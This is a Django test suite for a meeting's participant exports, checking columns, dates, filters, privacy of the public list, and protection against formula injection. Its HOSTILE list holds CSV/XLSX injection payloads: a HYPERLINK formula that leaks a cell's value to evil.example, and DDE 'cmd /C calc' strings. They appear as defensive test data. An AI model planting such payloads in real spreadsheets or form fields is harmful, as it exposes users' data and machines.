import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse

from participants.exports import neutralise, to_xlsx
from participants.importing import import_participants
from participants.models import Participant, Role, Status
from tests.factories import (
    MeetingFactory,
    ParticipantFactory,
    RegistrationFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    # Spreadsheets skip leading spaces and line breaks before a formula.
    " =1+1",
    "\n=1+1",
    "  +1+cmd|' /C calc'!A0",
    "\n\n-2+3",
    " @SUM(1+1)",
]


@pytest.fixture
def meeting():
    return MeetingFactory(slug="accra-2009")


@pytest.fixture
def organiser_client(client, meeting):
    user = UserFactory()
    meeting.organisers.add(user)
    client.force_login(user)
    return client


def register(participant, *, listed: bool) -> None:
    RegistrationFactory(
        participant=participant, passport_name=participant.full_name, consent_listed=listed
    )
    participant.status = Status.REGISTERED
    participant.save()


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content: bytes) -> list[list[object]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_prefixes_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Ama", "O'Neil", "", 5, None, "a=b"])
def test_neutralise_leaves_ordinary_cells(value):
    assert neutralise(value) == value


def test_organiser_csv_has_columns_status_and_local_dates(organiser_client, meeting):
    ParticipantFactory(
        meeting=meeting,
        honorific="Dr.",
        given_name="Ama",
        family_name="Mensah",
        email="ama@example.org",
        organisation="University of Ghana",
        job_title="Professor",
        country="GH",
        nationality="NG",
        gender="female",
        role=Role.EXPERT,
        funded=True,
        status=Status.REGISTERED,
        invited_at=dt.datetime(2009, 10, 1, 14, 0, tzinfo=dt.UTC),
        responded_at=dt.datetime(2009, 10, 3, 9, 30, tzinfo=dt.UTC),
        registered_at=dt.datetime(2009, 10, 5, 23, 15, tzinfo=dt.UTC),
    )

    response = organiser_client.get(reverse("participants:export_csv", args=[meeting.slug]))

    assert response["Content-Disposition"] == 'attachment; filename="accra-2009-participants.csv"'
    assert read_csv(response.content) == [
        [
            "Honorific",
            "Given name",
            "Family name",
            "Email",
            "Organisation",
            "Job title",
            "Country",
            "Nationality",
            "Gender",
            "Role",
            "Funded",
            "Status",
            "Invited at (Africa/Accra (GMT))",
            "Responded at (Africa/Accra (GMT))",
            "Registered at (Africa/Accra (GMT))",
        ],
        [
            "Dr.",
            "Ama",
            "Mensah",
            "ama@example.org",
            "University of Ghana",
            "Professor",
            "Ghana",
            "Nigeria",
            "Female",
            "Expert",
            "yes",
            "Registered",
            "2009-10-01 14:00",
            "2009-10-03 09:30",
            "2009-10-05 23:15",
        ],
    ]


def test_organiser_xlsx_has_real_dates_fitting_widths_frozen_header_and_filter(
    organiser_client, meeting
):
    ParticipantFactory(
        meeting=meeting,
        given_name="Ama",
        family_name="Mensah",
        email="ama.mensah@university-of-ghana.example.org",
        organisation="=HYPERLINK(1)",
        status=Status.INVITED,
        invited_at=dt.datetime(2009, 10, 1, 14, 0, tzinfo=dt.UTC),
    )

    response = organiser_client.get(reverse("participants:export_xlsx", args=[meeting.slug]))

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    invited = sheet["M2"]
    assert (invited.value, invited.is_date, invited.number_format) == (
        dt.datetime(2009, 10, 1, 14, 0),
        True,
        "yyyy-mm-dd hh:mm",
    )
    assert sheet["N2"].value is None  # not responded yet: an empty cell, not text
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:O2"
    assert sheet["A1"].font.b is True
    # XlsxWriter stores a width with the cell padding of Excel's own unit (+0.71).
    widths = {letter: int(sheet.column_dimensions[letter].width) for letter in "BDEM"}
    assert widths == {
        "B": len("Given name") + 2,
        "D": len("ama.mensah@university-of-ghana.example.org") + 2,
        "E": len("'=HYPERLINK(1)") + 2,
        "M": len("Invited at (Africa/Accra (GMT))") + 2,
    }
    assert sheet["E2"].value == "'=HYPERLINK(1)"


def test_organiser_export_follows_the_tracker_filters(organiser_client, meeting):
    ParticipantFactory(meeting=meeting, email="a@example.org", role=Role.EXPERT)
    ParticipantFactory(meeting=meeting, email="b@example.org", role=Role.OBSERVER)

    response = organiser_client.get(
        reverse("participants:export_csv", args=[meeting.slug]) + "?role=observer"
    )

    assert [row[3] for row in read_csv(response.content)[1:]] == ["b@example.org"]


def test_organiser_export_can_be_imported_again_unchanged(organiser_client, meeting):
    ParticipantFactory.create_batch(3, meeting=meeting, country="KE", region="africa")
    content = organiser_client.get(reverse("participants:export_xlsx", args=[meeting.slug])).content

    summary = import_participants(meeting=meeting, data=content, filename="export.xlsx")

    assert (summary.created, summary.updated, summary.unchanged) == (0, 0, 3)


def test_csv_export_neutralises_formulas(organiser_client, meeting):
    for number, value in enumerate(HOSTILE):
        ParticipantFactory(
            meeting=meeting, given_name=value, organisation=value, family_name=f"F{number:02d}"
        )

    rows = read_csv(
        organiser_client.get(reverse("participants:export_csv", args=[meeting.slug])).content
    )

    assert [row[1] for row in rows[1:]] == ["'" + value for value in HOSTILE]
    assert [row[4] for row in rows[1:]] == ["'" + value for value in HOSTILE]


def test_xlsx_export_stores_formulas_as_text(organiser_client, meeting):
    for number, value in enumerate(HOSTILE):
        ParticipantFactory(meeting=meeting, given_name=value, family_name=f"F{number:02d}")

    response = organiser_client.get(reverse("participants:export_xlsx", args=[meeting.slug]))

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(HOSTILE)
    # A line break inside an XLSX cell is a newline: a carriage return is stored as one.
    assert [cell.value for cell in cells] == ["'" + value.replace("\r", "\n") for value in HOSTILE]


def test_xlsx_export_strips_control_characters_before_neutralising(organiser_client, meeting):
    ParticipantFactory(meeting=meeting, given_name="\x01=1+1")

    response = organiser_client.get(reverse("participants:export_xlsx", args=[meeting.slug]))

    assert read_xlsx(response.content)[1][1] == "'=1+1"


def test_exports_never_carry_passport_or_birth_date(organiser_client, meeting):
    register(ParticipantFactory(meeting=meeting), listed=True)

    csv_text = organiser_client.get(
        reverse("participants:export_csv", args=[meeting.slug])
    ).content.decode()
    xlsx_cells = str(
        read_xlsx(
            organiser_client.get(reverse("participants:export_xlsx", args=[meeting.slug])).content
        )
    )
    public_text = organiser_client.get(
        reverse("participants:public_list_csv", args=[meeting.slug])
    ).content.decode()

    for text in (csv_text, xlsx_cells, public_text):
        assert "G1234567" not in text
        assert "1970" not in text


def test_public_list_shows_only_consenting_registered_participants(client, meeting):
    listed = ParticipantFactory(
        meeting=meeting,
        honorific="Dr.",
        given_name="Ama",
        family_name="Mensah",
        organisation="University of Ghana",
        country="GH",
        email="ama@example.org",
    )
    register(listed, listed=True)
    register(ParticipantFactory(meeting=meeting, given_name="Hidden"), listed=False)
    ParticipantFactory(meeting=meeting, given_name="Invited", status=Status.INVITED)

    page = client.get(reverse("participants:public_list", args=[meeting.slug]))
    rows = read_csv(
        client.get(reverse("participants:public_list_csv", args=[meeting.slug])).content
    )

    assert rows == [
        ["Name", "Organisation", "Country", "Role"],
        ["Dr. Ama Mensah", "University of Ghana", "Ghana", "Expert"],
    ]
    html = page.content.decode()
    assert "Dr. Ama Mensah" in html
    assert "Hidden" not in html
    assert "Invited" not in html
    assert "ama@example.org" not in html


def test_public_csv_neutralises_formulas(client, meeting):
    register(
        ParticipantFactory(meeting=meeting, given_name='=HYPERLINK("x")', honorific=""), listed=True
    )

    rows = read_csv(
        client.get(reverse("participants:public_list_csv", args=[meeting.slug])).content
    )

    assert rows[1][0].startswith("'=HYPERLINK")


def test_public_list_of_unpublished_meeting_is_not_found(client):
    meeting = MeetingFactory(is_published=False)

    assert client.get(reverse("participants:public_list", args=[meeting.slug])).status_code == 404


def test_organiser_export_query_count_does_not_grow(
    organiser_client, meeting, django_assert_num_queries
):
    ParticipantFactory.create_batch(2, meeting=meeting)
    url = reverse("participants:export_csv", args=[meeting.slug])
    with django_assert_num_queries(5) as small:
        organiser_client.get(url)
    ParticipantFactory.create_batch(30, meeting=meeting)

    with django_assert_num_queries(len(small.captured_queries)):
        response = organiser_client.get(url)

    assert len(read_csv(response.content)) == 33
    assert Participant.objects.count() == 32


def test_xlsx_cells_longer_than_excel_allows_are_cut_after_neutralising():
    content = to_xlsx(["Note"], [["=" + "x" * 40_000], [""]], title="Notes")

    [[header], [note], *_] = read_xlsx(content)
    assert (header, note[:3], len(note)) == ("Note", "'=x", 32_767)


def test_xlsx_of_no_rows_keeps_its_header():
    assert read_xlsx(to_xlsx(["Name", "Arrives"], [], title="Empty"))[0] == ["Name", "Arrives"]


def test_xlsx_dates_without_times_get_a_date_format():
    content = to_xlsx(["Check-in"], [[dt.date(2009, 11, 16)]], title="Rooming list")

    cell = openpyxl.load_workbook(io.BytesIO(content)).active["A2"]
    assert (cell.value, cell.number_format) == (dt.datetime(2009, 11, 16), "yyyy-mm-dd")
